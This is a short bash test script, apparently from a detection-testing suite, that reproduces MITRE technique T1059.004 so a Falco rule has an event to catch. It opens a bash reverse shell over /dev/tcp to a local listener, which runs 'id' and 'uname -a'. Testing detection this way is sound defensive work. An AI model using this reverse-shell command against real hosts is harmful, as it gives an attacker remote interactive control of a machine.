#!/bin/bash
# technique: T1059.004
# tactic: execution, command_and_control
# what: an interactive bash wired to a TCP connection (bash -i >& /dev/tcp/HOST/PORT 0>&1); the
#       loopback listener sends two commands and exit
# source: event-generator netcat/redirect-stdio actions (Falco stable "Redirect STDOUT/STDIN to Network Connection")
# cleanup: the listener stops after the session
# fast: yes
. "$(dirname "$0")/lib.sh"
port=$(vg_serve shell $'id\nuname -a\nexit')
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
true
